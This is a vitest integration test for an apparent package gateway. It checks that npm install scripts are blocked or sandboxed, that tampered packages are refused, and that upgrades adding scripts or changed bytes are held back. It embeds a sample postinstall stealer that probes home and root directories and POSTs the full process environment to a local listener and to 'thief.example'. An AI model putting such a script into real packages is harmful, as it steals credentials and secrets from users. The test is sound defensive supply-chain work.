/**
 * A supply chain that turns bad, as an operator meets it: the real program, a registry on this machine, real cells. A
 * package's install script, its files changed after it was installed, and a new version that wants more or is not what was
 * published: each is stopped, and named.
 */
import { chmodSync, existsSync, readdirSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ServerView } from '../../src/api/index.ts';
import { type LocalRegistry, startRegistry } from '../sandbox/local-registry.ts';
import { type Home, makeHome, type Served, waitFor } from './harness.ts';

const PROGRAM = readFileSync(join(import.meta.dirname, '../fixtures/servers/prober.mjs'), 'utf8');

/** Looks for what there is to take, tries to send it off, and writes down what came of it, in the package itself. */
const THIEF = `
  const fs = require('node:fs'), http = require('node:http');
  const look = (path) => { try { return fs.readdirSync(path).length } catch (error) { return error.code } };
  const write = (path) => { try { fs.writeFileSync(path, 'x'); return 'written' } catch (error) { return error.code } };
  const send = (host, port) => new Promise((done) => {
    const request = http.request({ host, port, method: 'POST', timeout: 3000 }, (answer) => done(answer.statusCode));
    request.on('error', (error) => done(error.code)).on('timeout', () => request.destroy(new Error('late')));
    request.end(JSON.stringify(process.env));
  });
  (async () => {
    const [home, thiefPort] = process.argv.slice(2);
    const report = {
      ran: true,
      names: Object.keys(process.env),
      userHome: process.env.HOME,
      home: look(home), root: look('/root'), hosts: look('/home'),
      outside: write('/usr/stolen'), store: look('/package/..'),
      sentToAddress: await send('127.0.0.1', Number(thiefPort)),
      sentToName: await send('thief.example', 80),
    };
    fs.writeFileSync('report.json', JSON.stringify(report));
  })();`;

let registry: LocalRegistry;
let home: Home;
let gateway: Served;
const stolen: string[] = [];
const thief = createServer((request, response) => {
  stolen.push(request.url ?? '');
  response.end();
});

beforeAll(async () => {
  registry = await startRegistry();
  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
  home = makeHome(`packages: { npmRegistry: "${registry.url}" }\n`);
  const { port } = thief.address() as AddressInfo; // a TCP listener has one
  registry.publish({ name: 'honest', version: '1.0.0', files: { 'index.js': 'module.exports = 1;\n' } });
  registry.publish({
    name: 'scripted',
    version: '1.0.0',
    fields: { scripts: { postinstall: `node thief.js ${home.path} ${port}` } },
    files: { 'thief.js': THIEF },
  });
  publish('1.0.0', { honest: '1.0.0', scripted: '1.0.0' });
  expect((await home.run('init')).code).toBe(0);
  gateway = await home.serve();
});
afterAll(async () => {
  await gateway.stop();
  home.remove();
  registry.close();
  thief.close();
});

function publish(version: string, dependencies: Readonly<Record<string, string>>, note = ''): void {
  registry.publish({
    name: 'drill',
    version,
    fields: { bin: 'server.mjs', type: 'module', dependencies },
    files: { 'server.mjs': `#!/usr/bin/env node\n${PROGRAM}`, 'note.txt': note },
  });
}

const folderOf = (server: ServerView): string =>
  join(home.path, 'packages', server.package?.integrity ?? 'none');
const show = (slug: string): Promise<ServerView> => home.json<ServerView>('server', 'show', slug);
const fileIn = async (slug: string, path: string): Promise<string> => join(folderOf(await show(slug)), path);
const tools = (slug: string) => home.run('server', 'tools', slug);
const audit = async (): Promise<string> => (await home.run('audit', 'export')).stdout;

/** Changes a file of an installed package, as somebody with the gateway's own rights would. */
function tamper(file: string, text: string): void {
  chmodSync(file, 0o644);
  writeFileSync(file, text);
  chmodSync(file, 0o444);
}

describe('an install script', () => {
  it('is not run, and is named', async () => {
    const added = await home.run('server', 'add', 'npm:drill@1.0.0');
    expect(added).toMatchObject({ code: 0 });
    expect(added.stdout).toContain('Install scripts not run: scripted@1.0.0');
    expect((await home.run('server', 'show', 'drill')).stdout).toMatch(/scripts +not run: scripted@1\.0\.0/);
    expect(existsSync(await fileIn('drill', 'node_modules/scripted/report.json'))).toBe(false);
    expect(stolen).toEqual([]);
    expect(await tools('drill')).toMatchObject({ code: 0 });
  });

  it('that is allowed runs in a cell that has nothing, reaches nobody else, and is on record', async () => {
    const added = await home.run('server', 'add', 'npm:drill@1.0.0', '--name', 'trusted', '--allow-scripts');
    expect(added).toMatchObject({ code: 0 });
    expect(added.stdout).toContain('Install scripts allowed: scripted@1.0.0');
    expect((await home.run('server', 'show', 'trusted')).stdout).toMatch(
      /scripts +allowed: scripted@1\.0\.0/,
    );
    const report = JSON.parse(
      readFileSync(await fileIn('trusted', 'node_modules/scripted/report.json'), 'utf8'),
    ) as Record<string, unknown>;
    expect(report).toMatchObject({
      ran: true,
      home: 'ENOENT',
      root: 'ENOENT',
      hosts: 1,
      outside: 'EROFS',
      userHome: '/home/cell',
    });
    expect(report['names']).not.toEqual(expect.arrayContaining([expect.stringMatching(/^SALLYPORT_/)]));
    expect(report['sentToAddress']).not.toBe(200);
    expect(report['sentToName']).not.toBe(200);
    expect(stolen).toEqual([]);
    const recorded = await audit();
    expect(recorded).toMatch(/"scripts":"allowed"[^\n]*"scriptsRun":\["scripted@1\.0\.0"\]/);
    expect(recorded).toContain('thief.example');
  });

  it('changes what is approved: the two are different packages', async () => {
    const [one, other] = [await show('drill'), await show('trusted')];
    expect(one.package?.integrity).not.toBe(other.package?.integrity);
  });
});

describe('a package whose files were changed after it was installed', () => {
  it('is not started, and is named; the very same one can be had again', async () => {
    expect(await home.run('server', 'disable', 'drill')).toMatchObject({ code: 0 });
    expect(await home.run('server', 'enable', 'drill')).toMatchObject({ code: 0 });
    const before = await show('drill');
    tamper(await fileIn('drill', 'node_modules/honest/index.js'), 'module.exports = "evil";\n');
    const refused = await tools('drill');
    expect(refused.code).toBe(3);
    expect(refused.stderr).toContain('The files of drill@1.0.0 are not those that were installed');
    expect(await audit()).toMatch(/"reason":"package_tampered","spec":"npm:drill@1\.0\.0"/);
    expect(await home.run('server', 'reinstall', 'drill')).toMatchObject({ code: 0 });
    expect((await show('drill')).package).toEqual(before.package);
    expect(await tools('drill')).toMatchObject({ code: 0 });
  });

  it('is not taken anew from a registry that sends other bytes than were pinned', async () => {
    rmSync(folderOf(await show('drill')), { recursive: true, force: true });
    registry.publish({ name: 'honest', version: '1.0.0', files: { 'index.js': 'module.exports = 2;\n' } });
    const refused = await home.run('server', 'reinstall', 'drill');
    expect(refused.code).toBe(3);
    expect(refused.stderr).toContain('is not what was pinned');
    expect(readdirSync(join(home.path, 'packages')).filter((name) => name.startsWith('.'))).toEqual([]);
    registry.publish({ name: 'honest', version: '1.0.0', files: { 'index.js': 'module.exports = 1;\n' } });
    expect(await home.run('server', 'reinstall', 'drill')).toMatchObject({ code: 0 });
  });
});

describe('a new version', () => {
  it('in which a part gained an install script is held back, and named', async () => {
    registry.publish({
      name: 'honest',
      version: '1.0.1',
      fields: { scripts: { preinstall: 'node thief.js' } },
      files: { 'thief.js': THIEF },
    });
    publish('1.1.0', { honest: '1.0.1', scripted: '1.0.0' });
    const held = await home.run('server', 'upgrade', 'drill');
    expect(held.code).toBe(3);
    expect(held.stderr).toContain('npm:drill@1.1.0 brings what a new version usually does not');
    expect(held.stderr).toContain('new install scripts: honest@1.0.1');
    expect((await show('drill')).package?.spec).toBe('npm:drill@1.0.0');
    expect(await tools('drill')).toMatchObject({ code: 0 });
    expect(await audit()).toMatch(/"type":"package\.refused"[^\n]*/);
  });

  it('is taken with consent, with what differs named, and its script still not run', async () => {
    const taken = await home.run('server', 'upgrade', 'drill', '--accept');
    expect(taken).toMatchObject({ code: 0 });
    expect(taken.stdout).toContain('drill: 1.0.0 → 1.1.0');
    expect(taken.stdout).toContain('New install scripts: honest@1.0.1');
    expect(taken.stdout).toContain('Install scripts not run: honest@1.0.1, scripted@1.0.0');
    expect(existsSync(await fileIn('drill', 'node_modules/honest/report.json'))).toBe(false);
    expect(stolen).toEqual([]);
  });

  it('that is the old one with other bytes is held back, and named', async () => {
    publish('1.1.0', { honest: '1.0.1', scripted: '1.0.0' }, 'published again');
    const held = await home.run('server', 'upgrade', 'drill', '--to', '1.1.0');
    expect(held.code).toBe(3);
    expect(held.stderr).toContain('npm:drill@1.1.0 is not the same as when it was installed');
    expect(held.stderr).toContain('same version, other bytes: drill@1.1.0');
  });
});

describe('a package that no server names any more', () => {
  it('is removed when it was not used for an hour, and that is on record; the others stay', async () => {
    const folder = folderOf(await show('trusted'));
    expect(await home.run('server', 'remove', 'trusted')).toMatchObject({ code: 0 });
    await gateway.stop();
    const lastUsed = new Date(Date.now() - 2 * 60 * 60 * 1_000);
    utimesSync(folder, lastUsed, lastUsed);
    gateway = await home.serve();
    await waitFor(() => !existsSync(folder));
    await waitFor(async () => (await audit()).includes('"type":"package.removed"'));
    expect(await tools('drill')).toMatchObject({ code: 0 });
  });
});
